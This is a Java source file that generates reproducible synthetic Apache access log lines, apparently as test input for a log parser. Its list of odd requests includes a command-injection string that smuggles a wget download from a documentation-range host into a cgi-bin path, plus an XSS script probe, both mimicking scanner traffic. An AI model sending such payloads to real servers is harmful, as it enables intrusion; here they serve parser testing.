// SPDX-License-Identifier: Apache-2.0
package dev.sluice.standalone.sample;

import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Access logs as Apache httpd writes them, the same ones for the same seed: a few clients, pages and agents make up most of the traffic; there are
 * IPv6 clients and host names, users, query strings, referrers from elsewhere, several time zones, escaped quotes, absent fields, and now and then
 * a request that is none (a TLS hello on the plain port, an empty line, a scanner's nonsense).
 */
public final class AccessLogSample {

    private static final DateTimeFormatter HTTPD_TIME =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ENGLISH);
    private static final Instant START = Instant.parse("2026-11-01T00:00:00Z");
    /** Most servers run in one zone; some logs come from elsewhere. */
    private static final ZipfDistribution<ZoneOffset> ZONES = new ZipfDistribution<>(List.of(
            ZoneOffset.UTC,
            ZoneOffset.ofHours(1),
            ZoneOffset.ofHours(-5),
            ZoneOffset.ofHoursMinutes(8, 30),
            ZoneOffset.ofHoursMinutes(5, 45)));

    private static final ZipfDistribution<String> METHODS =
            new ZipfDistribution<>(List.of("GET", "GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE"));
    private static final ZipfDistribution<String> VERSIONS =
            new ZipfDistribution<>(List.of("HTTP/1.1", "HTTP/2.0", "HTTP/1.0"));
    private static final ZipfDistribution<Integer> STATUSES =
            new ZipfDistribution<>(List.of(200, 200, 304, 404, 301, 302, 206, 401, 403, 500, 503, 429, 204, 408));
    private static final ZipfDistribution<String> USERS = new ZipfDistribution<>(List.of(
            "-",
            "-",
            "alice",
            "bob",
            "deploy",
            "svc_backup",
            "mar\\xc3\\xada",
            "o'neil",
            "DOMAIN\\\\carol",
            "user@example.com"));
    private static final List<String> STATIC_FILES = List.of(
            "/assets/app.9f3c1d.js",
            "/assets/app.51aa0e.css",
            "/favicon.ico",
            "/robots.txt",
            "/img/logo.svg",
            "/img/hero%402x.webp",
            "/fonts/inter-v12-latin.woff2",
            "/sitemap.xml",
            "/apple-touch-icon.png",
            "/.well-known/security.txt");
    private static final List<String> PAGES = List.of(
            "/",
            "/index.html",
            "/products",
            "/products/%d",
            "/products/%d/reviews?page=%d",
            "/search?q=running+shoes&sort=price&page=%d",
            "/search?q=%%E2%%9C%%93&lang=de",
            "/cart",
            "/cart/items/%d",
            "/checkout/step%d",
            "/account/orders/%d",
            "/blog/2026/%d/why-we-moved",
            "/api/v1/items/%d?fields=id,name,price",
            "/api/v1/events?since=%d&limit=100",
            "/api/v2/graphql",
            "/login?next=%%2Faccount",
            "/mailman/listinfo/test",
            "/wiki/Main_Page?action=history&offset=%d",
            "/downloads/release-1.%d.0.tar.gz",
            "/healthz");
    private static final ZipfDistribution<String> REFERRERS = new ZipfDistribution<>(List.of(
            "-",
            "https://shop.example.com/",
            "https://shop.example.com/products",
            "https://www.google.com/",
            "https://www.bing.com/search?q=shoes",
            "https://news.example.org/item?id=%d",
            "android-app://com.google.android.gm/",
            "http://old.example.net/a\\\"quoted\\\"page",
            "https://t.co/%d"));
    private static final List<String> ODD_REQUESTS = List.of(
            "-",
            "",
            "\\x16\\x03\\x01\\x02",
            "\\x03",
            "GET",
            "GET /no-version",
            "CONNECT mail.example.com:25 HTTP/1.1",
            "GET http://proxy.example.com/judge.php?id=1 HTTP/1.1",
            "OPTIONS * HTTP/1.0",
            "quit\\r\\n",
            "GET /a b c HTTP/1.1",
            "POST /cgi-bin/;wget%20http://192.0.2.1/x HTTP/1.1",
            "GET /\\\"><script>alert(1)</script> HTTP/1.1",
            "PRI * HTTP/2.0");
    private static final List<String> BROKEN_LINES = List.of(
            "this is not an access log line",
            "192.0.2.7 - - [31/Feb/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"curl/8.5\"",
            "192.0.2.7 - - [10/Oct/2026:13:55:36 +0000 \"GET / HTTP/1.1\" 200 5 \"-\" \"curl/8.5\"",
            "192.0.2.7 - - [10/Oct/2026:13:55:36 +0000] \"GET / HTTP/1.1\" abc 5 \"-\" \"curl/8.5\"",
            "192.0.2.7 - - [10/Oct/2026:13:5");

    private final SplittableRandom random;
    private final ZipfDistribution<String> clients;
    private final ZipfDistribution<String> pages;
    private final ZipfDistribution<String> agents;
    private final boolean combined;
    private final double brokenShare;
    private Instant now = START;

    /**
     * @param combined whether lines end with referrer and user agent
     * @param seed same seed, same lines
     * @param brokenShare share of lines that no format takes, 0 to 1
     */
    public AccessLogSample(boolean combined, long seed, double brokenShare) {
        this.random = new SplittableRandom(seed);
        this.combined = combined;
        this.brokenShare = brokenShare;
        this.clients = new ZipfDistribution<>(clients());
        this.pages = new ZipfDistribution<>(
                Stream.of(PAGES, STATIC_FILES).flatMap(List::stream).toList());
        this.agents = new ZipfDistribution<>(UserAgents.all());
    }

    /** The next line, without its line end. */
    public String next() {
        now = now.plusMillis(random.nextInt(1_500));
        if (random.nextDouble() < brokenShare) {
            return pick(BROKEN_LINES);
        }
        int status = STATUSES.pick(random);
        StringBuilder line = new StringBuilder(256)
                .append(clients.pick(random))
                .append(" - ")
                .append(USERS.pick(random))
                .append(" [")
                .append(HTTPD_TIME.format(OffsetDateTime.ofInstant(now, ZONES.pick(random))))
                .append("] \"")
                .append(request())
                .append("\" ")
                .append(status)
                .append(' ')
                .append(bodyBytes(status));
        if (combined) {
            line.append(" \"").append(numbered(REFERRERS.pick(random))).append("\" \"");
            line.append(agents.pick(random)).append('"');
        }
        return line.toString();
    }

    private String request() {
        if (random.nextInt(200) == 0) {
            return pick(ODD_REQUESTS);
        }
        return METHODS.pick(random) + ' ' + numbered(pages.pick(random)) + ' ' + VERSIONS.pick(random);
    }

    private String bodyBytes(int status) {
        boolean empty = status == 304 || status == 204 || status == 301 && random.nextBoolean();
        // Sizes spread over orders of magnitude, as they do.
        return empty ? "-" : Long.toString((long) Math.exp(4 + random.nextDouble() * 10));
    }

    private String numbered(String template) {
        return template.indexOf('%') < 0 || !template.contains("%d") && !template.contains("%%")
                ? template
                : String.format(Locale.ROOT, template, 1 + random.nextInt(12), 1 + random.nextInt(12));
    }

    private String pick(List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Three thousand addresses, of the ranges set aside for documentation and private networks, and some names. */
    private List<String> clients() {
        return IntStream.range(0, 3_000)
                .mapToObj(i -> switch (i % 10) {
                    case 3, 7 ->
                        String.format(
                                Locale.ROOT,
                                "2001:db8:%x:%x::%x",
                                random.nextInt(65_536),
                                random.nextInt(16),
                                1 + random.nextInt(65_535));
                    case 9 -> "host-" + i + ".example.net";
                    case 5 -> "198.51.100." + random.nextInt(256);
                    default -> "10." + random.nextInt(256) + '.' + random.nextInt(256) + '.' + random.nextInt(256);
                })
                .toList();
    }
}
